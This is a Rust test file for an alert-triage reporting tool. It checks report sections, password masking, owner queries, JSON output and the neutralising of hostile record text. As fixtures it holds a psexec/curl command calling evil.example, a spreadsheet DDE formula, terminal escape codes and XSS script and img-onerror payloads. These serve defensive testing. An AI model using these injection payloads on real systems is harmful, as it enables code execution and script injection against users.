//! Reports as their readers see them.

use super::*;
use crate::case::sample::{alert, event, suspicious};
use crate::case::{Decision, Transition};

fn decided(alerts: &[Alert]) -> Case {
    let mut case = Case::in_memory("ana@desk").unwrap();
    let admin = Decision::new(Transition::AdminAttributed)
        .with("attributed_to", "Client team")
        .with("basis", "change-ticket")
        .with("ticket", "CHG-1042")
        .citing(event("FS01", 10));
    let escalated = Decision::new(Transition::Escalated)
        .with("escalated_to", "Incident response")
        .with("why", "renamed service")
        .with("severity", "critical")
        .with("next_owner", "Kim");
    case.decide(&alerts[0], admin).unwrap();
    case.note(&alerts[0], "# Asked\n\nthem: <script>alert(1)</script>")
        .unwrap();
    case.decide(&alerts[1], escalated).unwrap();
    case
}

fn written(format: Format, alerts: &[Alert], case: &Case, options: Options) -> String {
    Report {
        timeline: &Timeline::default(),
        alerts,
        case,
        options,
    }
    .to_text(format)
    .unwrap()
}

fn story() -> Vec<Alert> {
    vec![
        alert("FS01", &[10, 11]),
        suspicious("FS02", &[10]),
        alert("FS03", &[10]),
    ]
}

#[test]
fn the_note_has_the_parts_that_its_readers_look_for() {
    let alerts = story();
    let note = written(
        Format::Markdown,
        &alerts,
        &decided(&alerts),
        Options::default(),
    );
    let headings: Vec<&str> = note
        .lines()
        .filter(|line| line.starts_with("## "))
        .collect();
    assert_eq!(
        headings,
        [
            "## Summary",
            "## Escalated",
            "## Still open",
            "## Timeline",
            "## Attributed to administrators",
            "## Checked and ruled out",
            "## Not known",
            "## Indicators",
            "## Evidence",
            "## Decision log"
        ]
    );
    for needed in [
        "- **Ticket:** CHG-1042",
        "- **Next owner:** Kim",
        "| admin-attributed | 1 |",
        "10[.]20[.]0[.]7",
    ] {
        assert!(note.contains(needed), "{needed} is missing in\n{note}");
    }
    assert!(note.contains("> # Asked\n>\n> them: \\<script>"), "{note}");
}

#[test]
fn no_report_holds_a_password_unless_asked() {
    let alerts = story();
    let case = decided(&alerts);
    for format in Format::ALL {
        let masked = written(format, &alerts, &case, Options::default());
        assert!(!masked.contains("Winter2026!"), "{} leaks", format.word());
        assert!(masked.contains("********"), "{}", format.word());
        let open = written(
            format,
            &alerts,
            &case,
            Options {
                show_secrets: true,
                ..Options::default()
            },
        );
        assert!(open.contains("Winter2026!"), "{} hides", format.word());
    }
}

#[test]
fn the_owner_gets_a_question_without_secrets_or_links() {
    let mut alert = alert("FS01", &[10, 11]);
    alert.processes[1].command_line =
        Some("psexec -p Winter2026! curl http://evil.example/a".into());
    let ask = Ask {
        whom: "Client team".to_owned(),
        due: crate::event::Time::parse("2026-03-12 12:00").unwrap(),
        zone: Some("Europe/Oslo".parse().unwrap()),
        from: "ana@desk".to_owned(),
        channel: "phone".to_owned(),
        ..Ask::default()
    };
    let message = ask.message(&alert);
    assert!(
        !message.contains("Winter2026!") && !message.contains("http://"),
        "{message}"
    );
    for wanted in [
        "Client team",
        "2026-03-10 19:00:10 +0100 Europe/Oslo",
        "FS01",
        "adm[.]berg",
        "2026-03-12 13:00:00 +0100",
    ] {
        assert!(message.contains(wanted), "{wanted} is not in\n{message}");
    }
    let mut case = Case::in_memory("ana").unwrap();
    case.decide(&alert, ask.decision()).unwrap();
    let triage = case.triage(&alert);
    assert_eq!(triage.state, crate::case::State::NeedsInfo);
    let verdict = Decision::answered(&triage, "yes, roll-out").unwrap();
    let verdict = verdict
        .with("ticket", "CHG-1042")
        .citing(alert.sightings[0].event.clone());
    case.decide(&alert, verdict).unwrap();
    assert_eq!(case.triage(&alert).fields["confirmed_by"], "Client team");
}

#[test]
fn hostile_record_text_acts_nowhere() {
    let mut alerts = story();
    let hostile =
        "=cmd|' /C calc'!A0\u{1b}]0;owned\u{7}\u{202e}<img src=x onerror=alert(1)>|`x`\r\nforged";
    for alert in &mut alerts {
        alert.title = hostile.to_owned();
        alert.host = hostile.to_owned();
        alert.processes[1].command_line = Some(hostile.to_owned());
        alert.signals[0].what = hostile.to_owned();
        alert.gaps = vec![hostile.to_owned()];
    }
    let case = decided(&story());
    for format in Format::ALL {
        let text = written(format, &alerts, &case, Options::default());
        let acts = |c: char| c != '\n' && (c.is_control() || crate::text::is_hidden(c));
        assert_eq!(text.chars().find(|c| acts(*c)), None, "{}", format.word());
        assert!(
            !text.lines().any(|line| line.starts_with("forged")),
            "{}",
            format.word()
        );
    }
    let note = written(Format::Markdown, &alerts, &case, Options::default());
    let prose: String = note.lines().filter(|line| !line.contains("- `")).collect();
    assert!(!prose.contains(" <img"), "{prose}");
    let table = written(Format::Csv, &alerts, &case, Options::default());
    let mut rows = ::csv::Reader::from_reader(table.as_bytes());
    for row in rows.records() {
        assert!(row.unwrap().iter().all(|cell| !cell.starts_with('=')));
    }
}

#[test]
fn json_carries_alert_and_triage_and_reads_back() {
    let alerts = story();
    let case = decided(&alerts);
    let scan: serde_json::Value =
        serde_json::from_str(&written(Format::Json, &alerts, &case, Options::default())).unwrap();
    assert_eq!(scan["schema"], "dualuse.scan/1");
    assert_eq!(
        scan["alerts"][0]["triage"]["disposition"],
        "admin-attributed"
    );
    assert_eq!(scan["alerts"][0]["triage"]["fields"]["ticket"], "CHG-1042");
    assert_eq!(scan["alerts"][2]["triage"]["state"], "new");
    assert_eq!(
        scan["alerts"][2]["triage"]["disposition"],
        serde_json::Value::Null
    );
    let lines = written(Format::Jsonl, &alerts, &case, Options::default());
    for (line, whole) in lines.lines().zip(scan["alerts"].as_array().unwrap()) {
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(line).unwrap(),
            *whole
        );
    }
    let read: Alert = serde_json::from_str(lines.lines().last().unwrap()).unwrap();
    assert_eq!(read.id, alerts[2].id);
}

#[test]
fn low_alerts_are_left_out_on_demand_but_never_those_that_somebody_decided() {
    let alerts = story();
    let options = Options {
        min_severity: Some(Severity::Critical),
        ..Options::default()
    };
    let lines = written(Format::Jsonl, &alerts, &decided(&alerts), options);
    assert_eq!(lines.lines().count(), 2);
}

#[test]
fn plain_text_says_who_from_where_as_whom_and_what_ran() {
    let alerts = story();
    let case = Case::in_memory("ana@desk").unwrap();
    let report = Report {
        timeline: &Timeline::default(),
        alerts: &alerts[1..2],
        case: &case,
        options: Options::default(),
    };
    let mut out = Vec::new();
    write_plain(
        &report,
        Plain {
            colour: false,
            width: Some(72),
        },
        &mut out,
    )
    .unwrap();
    insta::assert_snapshot!(String::from_utf8(out).unwrap());
    let mut coloured = Vec::new();
    write_plain(
        &report,
        Plain {
            colour: true,
            width: None,
        },
        &mut coloured,
    )
    .unwrap();
    assert!(coloured.contains(&0x1b));
}

#[test]
fn a_tree_whose_parents_run_in_a_circle_is_drawn_once() {
    let mut alert = alert("FS01", &[10]);
    alert.processes[0].parent = Some("{child}".to_owned());
    alert.processes[1].parent = Some("{client}".to_owned());
    assert_eq!(words::tree(&alert).len(), 2);
}
